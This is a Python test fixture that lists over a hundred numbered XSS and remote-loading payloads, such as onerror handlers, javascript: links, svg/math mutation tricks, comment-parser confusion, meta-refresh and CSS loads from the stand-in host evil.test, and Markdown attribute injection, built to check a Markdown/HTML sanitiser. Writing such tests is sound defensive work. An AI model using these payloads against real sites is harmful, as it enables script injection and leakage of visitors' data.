"""Ways in which a text of an author might run a script or load something from another site, each with its number.

`pwn(N)` is what a way runs, and `evil.test` the site that it asks; `N` stands for its number.
"""

from __future__ import annotations

import re

LONG = "x" * 6_000
WAYS = [
    # What tells parsers apart: blanks, quotes, signs within tags, long values, elements that hold raw text, code.
    "<img src=x onerror          =pwn(N)>",
    '<img src=x alt          ="a>b" onerror=pwn(N)>',
    "<img src=x < onerror=pwn(N)>",
    f'<img src=x alt="{LONG}>" onerror=pwn(N)>',
    f'<a href="{" " * 400}javascript:pwn(N)">a</a>',
    '<base href="//evil.test/N/">',
    '<meta http-equiv="refresh" content="0;url=//evil.test/N">',
    '<xmp title="</xmp><img src=x onerror=pwn(N)>">',
    '<noscript><p title="</noscript><img src=x onerror=pwn(N)>">',
    '<textarea title="</textarea><img src=x onerror=pwn(N)>">',
    '<title><p title="</title><img src=x onerror=pwn(N)>">',
    "``a`<img src=x onerror=pwn(N)>`",
    "~~~ a`b\n<img src=x onerror=pwn(N)>\n~~~ a`b",
    "!!! note\n\n    <img src=x onerror=pwn(N)>",
    "<div>\n\n    <img src=x onerror=pwn(N)>\n\n</div>",
    "text <div markdown><img src=x onerror=pwn(N)></div>",
    # Comments with what is taken out of pages elsewhere.
    '<!-- <img alt="--" >><img src=x onerror=pwn(N)> -->',
    'text <!-- <img alt="--" >><img src=x onerror=pwn(N)> --> text',
    'text **<!-- <img alt="--" >><meta http-equiv="refresh" content="0;url=//evil.test/N"> -->**',
    'text <!-- <input alt="--" >><img src=x onerror=pwn(N)> --> text',
    'text <!-- <img --><p title="--><img src=x onerror=pwn(N)>">a</p>',
    # What is loaded from elsewhere.
    '<img src          ="//evil.test/N.png">',
    '<img src="ht&Tab;tp://evil.test/N.png">',
    '<img src="htt&NewLine;p:/&Tab;/evil.test/N.png">',
    "<div style=\"background:image-set('//evil.test/N.png' 1x)\">a</div>",
    '<div style="background:u\\72l(//evil.test/N.png)">a</div>',
    "<style>@import/**/'//evil.test/N.css';</style>",
    '<link rel="stylesheet" href="//evil.test/N.css">',
    '<link rel="preload" as="image" href="//evil.test/N.png">',
    '<img src="a.png" srcset="//evil.test/N.png 1x">',
    '<picture><source srcset="//evil.test/N.png"><img src="a.png"></picture>',
    '<video src="//evil.test/N.mp4" poster="//evil.test/N.png" autoplay></video>',
    '<audio src="//evil.test/N.mp3" autoplay></audio>',
    '<svg><image href="//evil.test/N.png" width="9" height="9"/><use href="//evil.test/N.svg#a"/></svg>',
    '<svg><rect width="9" height="9" fill="url(//evil.test/N.svg#a)" filter="url(//evil.test/N.svg#b)"/></svg>',
    '<table background="//evil.test/N.png"><tr><td background="//evil.test/N.png">a</td></tr></table>',
    '<input type="image" src="//evil.test/N.png">',
    "![a](//evil.test/N.png)",
    "![a](http:/evil.test/N.png)",
    "![a](a.png){ srcset='//evil.test/N.png 1x' }",
    "![a][nN]\n\n[nN]: //evil.test/N.png",
    '<iframe src="//evil.test/N"></iframe><object data="//evil.test/N"></object><embed src="//evil.test/N">',
    '<a href="#" ping="//evil.test/N">a</a>',
    '<pre class="mermaid">graph LR; A-->B; click A href "javascript:pwn(N)"</pre>',
    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph LR; A["<img src=x onerror=pwn(N)>"]\n```',
    '<div data-md-component="source"><a class="md-source" href="https://github.com/evil/N">a</a></div>',
    '<a data-md-component="source" href="https://github.com/evil/N">a</a>',
    # Namespaces and parsers that read twice.
    "<svg><style><img src=x onerror=pwn(N)></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=pwn(N)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn(N)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn(N)>",
    '<svg><foreignObject><p title="</foreignObject></svg><img src=x onerror=pwn(N)>"></foreignObject></svg>',
    '<svg><title><p title="</title><img src=x onerror=pwn(N)>">a</title></svg>',
    "<template><img src=x onerror=pwn(N)></template>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwn(N)>">',
    "<table><caption><script>pwn(N)</script></caption></table>",
    '<svg><a><animate attributeName="href" values="javascript:pwn(N)"/><text y="20">a</text></a></svg>',
    '<svg><script href="data:text/javascript,pwn(N)"></script></svg>',
    "<svg><set attributeName=onmouseover to=pwn(N)><rect width=9 height=9></svg>",
    "<!--><img src=x onerror=pwn(N)>-->",
    "<!-- a --!><img src=x onerror=pwn(N)>-->",
    "<![CDATA[<img src=x onerror=pwn(N)>]]>",
    "<?x ><img src=x onerror=pwn(N)>?>",
    '<p title="<!-- postmortems:evidence --><img src=x onerror=pwn(N)>">a</p>',
    "<listing><img src=x onerror=pwn(N)></listing>",
    # Handlers and addresses.
    "<details open ontoggle=pwn(N)><summary>a</summary>b</details>",
    "<input autofocus onfocus=pwn(N)>",
    "<b tabindex=0 autofocus onfocus=pwn(N)>a</b>",
    '<button formaction="javascript:pwn(N)">a</button>',
    '<form action="javascript:pwn(N)"><input type="submit" value="a"></form>',
    '<a href="java&#10;script&colon;pwn(N)">a</a>',
    '<a href="\x01javascript:pwn(N)">a</a>',
    '<a href="javascript&#58;pwn(N)" target="_self">a</a>',
    "[a](javascript&#58;pwn(N))",
    "[a](&#x6A;avascript&colon;pwn(N))",
    "[a](<java\tscript:pwn(N)>)",
    "- [aN]: javascript:pwn(N)\n\n[b][aN]",
    '<a href="data:text/html,<script>pwn(N)</script>">a</a>',
    "<iframe srcdoc='<script>parent.pwn(N)</script>'></iframe>",
    "<marquee onstart=pwn(N)>a</marquee>",
    "<body onload=pwn(N)><frameset onload=pwn(N)>",
    "<style onload=pwn(N)>b{}</style><svg onload=pwn(N)></svg>",
    '<b style="animation: md-x 1s" onanimationstart=pwn(N)>a</b>',
    "<dialog open oncancel=pwn(N)>a</dialog><b popover ontoggle=pwn(N)>a</b>",
    "<ſcript>pwn(N)</ſcript><ſvg onload=pwn(N)>",
    "<ımg src=x onerror=pwn(N)><img\u2028src=x\u2028onerror=pwn(N)>",
    # What Markdown's extensions make of words.
    'a{: title="}" onclick=pwn(N) }',
    '*a*{: title="}" onmouseover=pwn(N) }',
    f"*a*{{: title='{LONG}' onmouseover=pwn(N) }}",
    "## aN {: onmouseover=pwn(N) data-toc-label='<img src=x onerror=pwn(N)>' }",
    "## bN `<img src=x onerror=pwn(N)>`",
    '```{.python onmouseover="pwn(N)" title="<img src=x onerror=pwn(N)>"}\nx\n```',
    "/// html | script\npwn(N)\n///",
    '/// html | img[src="x" onerror="pwn(N)"]\n///',
    '!!! note "<img src=x onerror=pwn(N)>"\n    a',
    '=== "<img src=x onerror=pwn(N)>"\n\n    a',
    '*[TLAN]: <img src=x onerror=pwn(N)> "onmouseover=pwn(N)\n\nTLAN and again TLAN',
    "a[^fN]\n\n[^fN]: <img src=x onerror=pwn(N)>",
    "aN\n:   <img src=x onerror=pwn(N)>",
    "| a |\n|---|\n| <img src=x onerror=pwn(N)> |",
    "> <img src=x onerror=pwn(N)>",
    '++"<img src=x onerror=pwn(N)>"++ :material-account:{ onmouseover=pwn(N) }',
    "$<img src=x onerror=pwn(N)>$",
    "{==<img src=x onerror=pwn(N)>==}{>><img src=x onerror=pwn(N)><<}",
    '<b title="&lt;img src=x onerror=pwn(N)&gt;">a title that a tooltip shows</b>',
    '<abbr title="<img src=x onerror=pwn(N)>">a</abbr>',
    # What the theme finds by its name.
    '<div id="__config">{"base": "//evil.test/N", "features": [], "search": "data:text/javascript,0", "translations": {}}</div>',
    '<img name="getElementById" src="a.png"><a id="__md_scope" href="javascript:pwn(N)">a</a>',
    '<form name="__search"><input name="index"></form><a id="mermaid" name="render">a</a>',
    '<label for="__drawer">a</label><input id="__search" type="checkbox" checked data-md-toggle="search">',
    '<a class="md-overlay" href="javascript:pwn(N)" data-clipboard-text="x">a</a>',
    '<a class="glightbox" data-title="<img src=x onerror=pwn(N)>" href="a.png">a</a>',
    '<i data-slot="t0" onclick=pwn(N)>a</i>',
]


def numbered(way: str, number: int) -> str:
    """A way with its number in place."""
    for sign in ("pwn(N)", "evil.test/N", "nN]", "aN", "bN", "TLAN", "fN]", "evil/N"):
        way = way.replace(sign, sign.replace("N", str(number)))
    return way


def all_ways(first: int) -> str:
    """One text with all of them, those last that may turn what follows into something else; numbers begin at `first`."""
    ways = [(bool(_SWALLOWS.search(way)), numbered(way, number)) for number, way in enumerate(WAYS, first)]
    return "\n\n".join(way for _, way in sorted(ways, key=lambda one: one[0]))


_SWALLOWS = re.compile(
    "<(?:xmp|textarea|title|select|noscript|template|iframe|style|script|svg|math|listing|form|!|\\?)|```|~~~"
)
